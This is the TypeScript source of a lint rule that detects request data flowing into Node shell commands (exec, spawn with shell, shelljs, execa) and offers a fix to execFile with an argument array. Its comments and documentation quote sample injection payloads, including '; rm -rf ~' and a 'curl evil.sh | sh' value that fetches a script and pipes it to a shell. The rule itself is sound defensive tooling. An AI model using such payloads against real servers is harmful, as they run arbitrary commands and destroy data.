import { isArrayLiteralExpression, isIdentifier, isPropertyAccessExpression, isTemplateExpression, SyntaxKind, ts } from '../ts';
import { textHas } from '../lib/text-hints';
import { calleeName, stringValue } from '../ast';
import { ensureImport, preferredQuote } from '../fix';
import { skipWrappers, type Origin } from '../modules';
import { lookup } from '../scopes';
import { resolveArray, resolveObject, resolveString } from './jwt-verify-algorithms';
import { calleeOrigin, guardedBefore, importsAny, relatedSource, sourceText, trace } from '../lib/injection';
import type { Fix, RuleContext, SourceRule, TextEdit } from '../types';

/**
 * Request data in a shell command:
 *
 *   exec(`git log ${req.query.branch}`)                 // ; rm -rf ~
 *   spawn('convert', [req.body.file], { shell: true })
 *   execFile(req.body.tool, args)                       // the program itself
 *   shell.exec('ping -c 1 ' + host)                     // shelljs
 *
 * `execFile`/`spawn` with a constant program and an argument array (no shell)
 * are fine even with request data in the arguments, and so is a value checked
 * by a strict regex or allowlist that returns before the call.
 */

const CHILD_PROCESS = 'child_process';
const PROCESS_MODULES: ReadonlySet<string> = new Set([CHILD_PROCESS, 'shelljs', 'execa']);
/** Functions that run their first argument through /bin/sh. */
const SHELL_STRING: ReadonlySet<string> = new Set(['exec', 'execSync']);
/** Functions that run a program with an argument array; a shell only with `{ shell: true }`. */
const ARGV_FUNCTIONS: ReadonlySet<string> = new Set(['spawn', 'spawnSync', 'execFile', 'execFileSync']);
const EXECA_FUNCTIONS: ReadonlySet<string> = new Set(['execa', 'execaSync', 'execaCommand', 'execaCommandSync', 'execaNode']);
const SINK_NAMES: ReadonlySet<string> = new Set([...SHELL_STRING, ...ARGV_FUNCTIONS, ...EXECA_FUNCTIONS, 'default']);
/** Characters a shell gives meaning to; a template holding one cannot become an argv without changing its meaning. */
const SHELL_META = /[|&;<>()$`\\"'*?[\]{}~#=%!\n]/;

interface Sink {
  /** The expressions whose request data reaches a shell or chooses the program. */
  values: ts.Expression[];
  /** `exec`-style string command: the fix may turn it into execFile. */
  shellString: boolean;
  /** No shell: request data picks the program itself. */
  program?: boolean;
  origin: Origin;
}

export const rule: SourceRule = {
  id: 'command-injection',
  row: 'injection-other',
  severity: 'error',
  description: 'Detects request data reaching a shell command (child_process exec/execSync, spawn or execFile with shell: true or a request-chosen program, shelljs, execa).',
  message: 'Shell command built from request data: `;`, `|` or `$()` run any command; use execFile/spawn with a constant program and an argument array.',
  fixable: true,
  docs: {
    why:
      '`exec` hands its string to /bin/sh, so a value like `main; curl evil.sh | sh` from the request runs arbitrary commands with the ' +
      "server's privileges. Quoting by hand is easy to get wrong; the safe form never starts a shell at all.",
    bad: "const { exec } = require('child_process');\n\napp.get('/log', (req, res) => {\n  exec(`git log --oneline ${req.query.branch}`, (err, out) => res.send(out));\n});",
    good:
      "const { execFile } = require('child_process');\n\napp.get('/log', (req, res) => {\n  const branch = String(req.query.branch);\n" +
      "  if (!/^[\\w./-]+$/.test(branch)) return res.sendStatus(400);\n  execFile('git', ['log', '--oneline', '--', branch], (err, out) => res.send(out));\n});",
    fix:
      'Call `execFile(program, [args])` or `spawn(program, [args])` without `shell: true`, with a constant program; pass request values ' +
      'as separate arguments (after `--` where the program supports it) and validate them against a strict regex or an allowlist.',
    cwe: ['CWE-78', 'CWE-77'],
    owasp: ['A03:2021'],
  },
  create(ctx) {
    // Every sink resolves to a process module, which an import or require must spell.
    const text = ctx.text;
    if (!textHas(text, CHILD_PROCESS) && !textHas(text, 'shelljs') && !textHas(text, 'execa')) return {};
    let relevant: boolean | undefined;
    return {
      CallExpression(node: ts.CallExpression) {
        const name = calleeName(node);
        if (!name || node.arguments.length === 0) return;
        // Known names resolve by module; other plain calls (`run` for `{ exec: run }`, a promisified exec)
        // only in files that import a process module.
        if (!SINK_NAMES.has(name) && !(isIdentifier(skipWrappers(node.expression)) && (relevant ??= importsAny(ctx, PROCESS_MODULES)))) return;
        const sink = sinkOf(ctx, node);
        if (!sink) return;
        for (const v of sink.values) {
          const source = trace(ctx, v);
          if (!source || guardedBefore(node, v)) continue;
          const what = sourceText(source);
          ctx.report(node, {
            message: sink.program
              ? `Program to run chosen by request data (${what}): any binary on the server can be started; pick it from a constant or an allowlist.`
              : `Shell command built from request data (${what}): \`;\`, \`|\` or \`$()\` run any command; use execFile/spawn with a constant program and an argument array.`,
            related: relatedSource(source),
            fixes: sink.shellString ? execFileFix(ctx, node, sink.origin) : [],
          });
          return;
        }
      },
    };
  },
};

function sinkOf(ctx: RuleContext, call: ts.CallExpression): Sink | undefined {
  const o = calleeOrigin(ctx, call);
  if (!o) return undefined;
  const args = call.arguments;
  const fn = o.path.length === 1 ? o.path[0] : o.path.length === 0 ? '' : undefined;
  if (fn === undefined) return undefined;
  if (o.module === CHILD_PROCESS) {
    if (SHELL_STRING.has(fn)) return { values: [args[0]], shellString: true, origin: o };
    if (ARGV_FUNCTIONS.has(fn)) {
      const options = args.slice(1).find((a) => !isArrayLiteralExpression(skipWrappers(a)) && resolveObject(a));
      if (shellOption(options)) return { values: [...args.slice(0, 2)], shellString: false, origin: o };
      // spawn('sh', ['-c', cmd]): a shell all the same.
      const script = shellScriptArgument(args[0], args[1]);
      if (script) return { values: [script], shellString: false, origin: o };
      return { values: [args[0]], shellString: false, program: true, origin: o };
    }
    return undefined;
  }
  if (o.module === 'shelljs' && fn === 'exec') return { values: [args[0]], shellString: false, origin: o };
  if (o.module === 'execa') {
    const f = fn === '' ? 'execa' : fn;
    if (!EXECA_FUNCTIONS.has(f)) return undefined;
    const options = args.slice(1).find((a) => !isArrayLiteralExpression(skipWrappers(a)) && resolveObject(a));
    // execaCommand splits on spaces without a shell: only the program it picks matters.
    if (shellOption(options)) return { values: [...args.slice(0, 2)], shellString: false, origin: o };
    return { values: programOf(args[0], f), shellString: false, program: true, origin: o };
  }
  return undefined;
}

const SHELLS = /^(?:.*\/)?(sh|bash|zsh|dash|ksh|cmd|cmd\.exe|powershell|powershell\.exe|pwsh)$/i;
const SCRIPT_FLAGS: ReadonlySet<string> = new Set(['-c', '/c', '/C', '-Command', '-command', '-lc']);

/** `spawn('bash', ['-c', script])`: the element after `-c` is a shell script. */
function shellScriptArgument(program: ts.Expression | undefined, argv: ts.Expression | undefined): ts.Expression | undefined {
  const p = program && resolveString(program);
  if (!p || !SHELLS.test(p)) return undefined;
  const arr = argv && resolveArray(argv);
  if (!arr) return undefined;
  const i = arr.elements.findIndex((e) => SCRIPT_FLAGS.has(stringValue(e) ?? ''));
  return i >= 0 ? arr.elements[i + 1] : undefined;
}

/** `{ shell: true }` or a shell path; a non-constant value counts as possibly on. */
function shellOption(options: ts.Expression | undefined): boolean {
  const o = options && resolveObject(options);
  const v = o?.props.get('shell');
  if (!v) return false;
  const x = skipWrappers(v);
  return x.kind !== SyntaxKind.FalseKeyword && !(isIdentifier(x) && x.text === 'undefined');
}

/** What chooses the program: the first argument, unless an execaCommand template starts with a constant one. */
function programOf(arg: ts.Expression, fn: string): ts.Expression[] {
  if (!fn.startsWith('execaCommand')) return [arg];
  const x = skipWrappers(arg);
  return isTemplateExpression(x) && x.head.text.trim().length > 0 ? [] : [arg];
}

// ---------------------------------------------------------------------------
// Fix: exec(`git log ${x}`) → execFile('git', ['log', x])

function execFileFix(ctx: RuleContext, call: ts.CallExpression, origin: Origin): Fix[] {
  const sf = ctx.sourceFile;
  const argv = argvOf(call.arguments[0]);
  if (!argv) return [];
  const target = origin.path[0] === 'execSync' ? 'execFileSync' : 'execFile';
  const callee = renameCallee(ctx, call, target);
  if (!callee) return [];
  const q = preferredQuote(sf);
  const quote = (s: string): string => `${q}${s.replace(/\\/g, '\\\\').split(q).join(`\\${q}`)}${q}`;
  const [program, ...rest] = argv;
  const args = rest.map((a) => (typeof a === 'string' ? quote(a) : a.getText(sf)));
  const first = call.arguments[0];
  const edits: TextEdit[] = [
    ...callee,
    { start: first.getStart(sf), end: first.end, newText: `${quote(program as string)}, [${args.join(', ')}]` },
  ];
  return [{ title: `Run the program with ${target} and an argument array (no shell)`, edits, preferred: false }];
}

/**
 * `git log --oneline ${x}` → ['git', 'log', '--oneline', x]: only when every
 * word is plain text or one whole substitution, and the program is constant.
 */
function argvOf(arg: ts.Expression): (string | ts.Expression)[] | undefined {
  const x = skipWrappers(arg);
  if (!isTemplateExpression(x)) return undefined;
  const out: (string | ts.Expression)[] = [];
  const texts = [x.head.text, ...x.templateSpans.map((s) => s.literal.text)];
  if (texts.some((t) => SHELL_META.test(t))) return undefined;
  for (let i = 0; i < texts.length; i++) {
    const t = texts[i];
    const words = t.split(/[ \t]+/);
    // A substitution glued to text (`--file=${x}`, `${x}.txt`) is not a whole argument.
    if (i > 0 && words[0] !== '') return undefined;
    if (i < texts.length - 1 && words[words.length - 1] !== '') return undefined;
    for (const w of words) if (w !== '') out.push(w);
    if (i < x.templateSpans.length) out.push(x.templateSpans[i].expression);
  }
  if (out.length === 0 || typeof out[0] !== 'string') return undefined;
  return out;
}

/** Edits that make the call use `target` from child_process, through the same import binding style. */
function renameCallee(ctx: RuleContext, call: ts.CallExpression, target: string): TextEdit[] | undefined {
  const sf = ctx.sourceFile;
  const callee = skipWrappers(call.expression);
  // cp.exec(…), require('child_process').exec(…)
  if (isPropertyAccessExpression(callee)) {
    return [{ start: callee.name.getStart(sf), end: callee.name.end, newText: target }];
  }
  if (!isIdentifier(callee)) return undefined;
  const existing = lookup(target, callee);
  if (existing) {
    const o = ctx.modules.origin(existing.node);
    if (!o || o.module !== CHILD_PROCESS || o.path.join('.') !== target) return undefined;
    return [{ start: callee.getStart(sf), end: callee.end, newText: target }];
  }
  const b = lookup(callee.text, callee);
  if (!b) return undefined;
  const rename = { start: callee.getStart(sf), end: callee.end, newText: target };
  // `const { exec } = require('child_process')`, `import { exec } from 'node:child_process'`: add the name beside it.
  const el = b.node.parent;
  if (b.kind === 'import' && ts.isImportSpecifier(el)) {
    return [rename, { start: el.end, end: el.end, newText: `, ${target}` }];
  }
  if (b.kind === 'variable' && ts.isBindingElement(el) && ts.isObjectBindingPattern(el.parent)) {
    return [rename, { start: el.end, end: el.end, newText: `, ${target}` }];
  }
  const imp = ensureImport(sf, CHILD_PROCESS, target, 'named');
  return imp ? [rename, imp] : [rename];
}
